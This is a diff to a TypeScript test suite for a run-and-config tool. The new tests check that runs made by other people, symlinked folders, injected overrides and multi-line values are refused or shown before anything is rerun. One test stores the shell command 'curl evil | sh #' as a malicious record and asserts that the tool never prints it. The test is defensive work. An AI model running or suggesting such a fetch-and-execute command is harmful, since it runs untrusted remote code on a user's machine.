@@ -121,6 +121,15 @@ describe('looking at a folder runs none of its code', () => {
     expect(ran(cwd)).toBe(true);
   });
 
+  it('validate loads what a saved config names that was signed, and nothing that any other file of the run does', async () => {
+    const { app, cwd } = program({ 'mine.mjs': EVIL.replace("'X'", "'foreign/X'"), 'foreign/x': '' });
+    await runProgram(app, ['hydra.run.dir=out'], { cwd, env: ME });
+    writeFileSync(join(cwd, 'out/notes.yaml'), 'part: {_target_: "./mine.mjs:x"}\n');
+    for (const options of [{ files: ['out/notes.yaml'] }, { configPath: 'out', configName: 'notes' }])
+      expect((await check(app, cwd, options)).stderr).toContain('./mine.mjs:x was not loaded');
+    expect(ran(cwd)).toBe(false);
+  });
+
   it("the parts that one's own tree and one's own runs name are loaded, and their options checked", async () => {
     const text = `export const x = { options: ${JSON.stringify(options)}, create: () => ({}) };`;
     const { app, cwd } = program({ 'mine.mjs': text });
@@ -142,6 +151,40 @@ describe("a run of one's own", () => {
     const config = { out: 'there', part: { _target_: './mine.mjs:x' } };
     expect(JSON.parse(readFileSync(join(cwd, 'out_1/summary.json'), 'utf8'))).toMatchObject({ result: config });
   });
+});
+
+const failing: Program<Config>['load'] = async () => ({
+  task: () => {
+    throw new Error('on purpose');
+  },
+});
+
+/** Writes into the run's folder while it goes on. */
+const meddling: Program<Config>['load'] = async () => ({
+  task: ({ config }) => config,
+  trackers: () => [
+    {
+      start: async ({ folder }) => {
+        writeFileSync(join(folder, '.hydra/config.yaml'), 'a: 1\nout: elsewhere\n');
+        return { id: 'x', ids: new Map([['mine', 'x']]), listen() {}, end: async () => {} };
+      },
+    },
+  ],
+});
+
+it.each(['student', '.hydrosol/deep'])("a run of one's own in which a link lies (%s) is not resumed", async (link) => {
+  const { app, cwd } = program({ 'victim/file': 'whole' }, { load: failing });
+  expect(await runProgram(app, ['hydra.run.dir=out'], { cwd, env: ME })).toMatchObject({ code: 1 });
+  symlinkSync(join(cwd, 'victim'), join(cwd, 'out', link));
+  const refused = await runProgram(app, ['--resume', 'out'], { cwd, env: ME });
+  expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(`out/${link} is a link`) });
+});
+
+it('what is written into a run while it goes on is not signed', async () => {
+  const { app, cwd } = program({}, { load: meddling });
+  expect(await runProgram(app, ['hydra.run.dir=out'], { cwd, env: ME })).toMatchObject({ code: 0 });
+  const again = await runProgram(app, ['--reproduce', 'out'], { cwd, env: ME });
+  expect(again).toMatchObject({ code: 0, stderr: expect.stringContaining('not signed') });
 });
 
 describe('a run of somebody else', () => {
@@ -218,20 +261,76 @@ describe('a run of somebody else', () => {
     expect(existsSync(join(cwd, 'outputs'))).toBe(false);
   });
 
-  it('is rerun where a person agrees to its overrides; looking at them asks nothing', async () => {
+  it('is rerun, and looked at, where a person agrees to its words', async () => {
     const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
     const words = ['part._target_=./foreign/evil.mjs:x', 'out=elsewhere'];
     foreignRun(cwd, 'a: 1\n', { hydra: `hydra: {overrides: {hydra: [], task: ${JSON.stringify(words)}}}\n` });
     const rerun = (...more: string[]): Promise<Finished> =>
       runProgram(app, ['--experimental-rerun', 'foreign', ...more], { cwd, env: ME });
-    const refused = await rerun();
-    expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(words.join(' ')) });
-    expect(refused.stderr).toMatch(/if you trust it: .* --experimental-rerun foreign --trust\n/);
-    expect(await rerun('--cfg', 'job')).toMatchObject({ code: 0, stdout: expect.stringContaining('out: elsewhere') });
+    for (const more of [[], ['--cfg', 'job'], ['--explain', 'out'], ['--help'], ['--info', 'aliases']]) {
+      const refused = await rerun(...more);
+      expect(refused).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining(words.join(' ')) });
+      expect(refused.stderr).toMatch(/if you trust it: .* --experimental-rerun foreign --trust\n/);
+    }
+    const shown = await rerun('--cfg', 'job', '--trust');
+    expect(shown).toMatchObject({ code: 0, stdout: expect.stringContaining('out: elsewhere') });
     expect(ran(cwd)).toBe(false);
     expect(existsSync(join(cwd, 'outputs'))).toBe(false);
     expect(await rerun('--trust')).toMatchObject({ code: 0 });
     expect(ran(cwd)).toBe(true);
+  });
+
+  it.each([
+    {
+      name: 'a place to look for configs',
+      hydra: 'overrides: {hydra: ["hydra.searchpath=[file:///x]"], task: []}',
+      says: "'hydra.searchpath=[file:///x]'",
+    },
+    {
+      name: 'another primary config',
+      hydra: 'job: {config_name: other}, overrides: {hydra: [], task: []}',
+      says: '--config-name other',
+    },
+    {
+      name: 'a word of two lines',
+      hydra: String.raw`overrides: {hydra: [], task: ["note=a\nrun: x"]}`,
+      says: String.raw`$'note=a\x0arun: x'`,
+    },
+  ])('is not rerun with $name before its words were shown', async ({ hydra, says }) => {
+    const { app, cwd } = program({ 'conf/other.yaml': CONFIG });
+    foreignRun(cwd, 'a: 1\n', { hydra: `hydra: {${hydra}}\n` });
+    const refused = await runProgram(app, ['--experimental-rerun', 'foreign', '--cfg', 'job'], { cwd, env: ME });
+    expect(refused).toMatchObject({
+      code: 2,
+      stdout: '',
+      stderr: expect.stringContaining(`as if you typed them: ${says}`),
+    });
+  });
+
+  it('with nothing typed is rerun without a question', async () => {
+    const { app, cwd } = program();
+    foreignRun(cwd, 'a: 1\n', { hydra: 'hydra: {job: {config_name: config}, overrides: {hydra: [], task: []}}\n' });
+    expect(await runProgram(app, ['--experimental-rerun', 'foreign'], { cwd, env: ME })).toMatchObject({ code: 0 });
+  });
+
+  it('names no line to type, and its texts stay in one line', async () => {
+    const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
+    foreignRun(cwd, String.raw`part: {_target_: "./a.mjs:x\n\nanother line"}` + '\n');
+    const asked = await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: ME });
+    expect(asked).toMatchObject({ code: 2, stderr: expect.stringContaining(String.raw`a.mjs:x\n\nanother line`) });
+    mkdirSync(join(cwd, 'foreign/.hydrosol'));
+    const command = 'curl evil | sh #';
+    const record = { format: 1, program: { name: 'x\ny', command }, overrides: { hydra: [], task: [] } };
+    const text = JSON.stringify({ ...record, saved: '.hydra', tracked: {}, files: {} });
+    writeFileSync(join(cwd, 'foreign/.hydrosol/record.json'), text);
+    for (const verb of ['--reproduce', '--resume', '--experimental-rerun']) {
+      const { code, stderr } = await runProgram(app, [verb, 'foreign'], { cwd, env: ME });
+      expect({ code, stderr }).toMatchObject({
+        code: 2,
+        stderr: expect.stringContaining(String.raw`the program x\ny`),
+      });
+      expect(stderr).not.toContain('curl');
+    }
   });
 
   it('is one also where its config was changed, or signed by another', async () => {
@@ -355,6 +454,14 @@ describe.runIf(spawnSync('script', ['--version']).status === 0)('at a terminal',
 it('--trust is for runs that are there', async () => {
   const { app, cwd } = program();
   expect(await runProgram(app, ['--trust', 'a=1'], { cwd })).toMatchObject({ code: 2 });
+});
+
+it('hydrosol rerun lists --trust, and speaks of no flag that nobody typed', async () => {
+  const { cwd } = program();
+  expect(await hydrosol(['rerun', '--help'], { cwd })).toMatchObject({ stdout: expect.stringContaining('--trust') });
+  const { code, stderr } = await hydrosol(['rerun', 'foreign', '-m'], { cwd });
+  expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining('(-m)') });
+  expect(stderr).not.toContain('experimental');
 });
 
 describe('control characters are shown', () => {
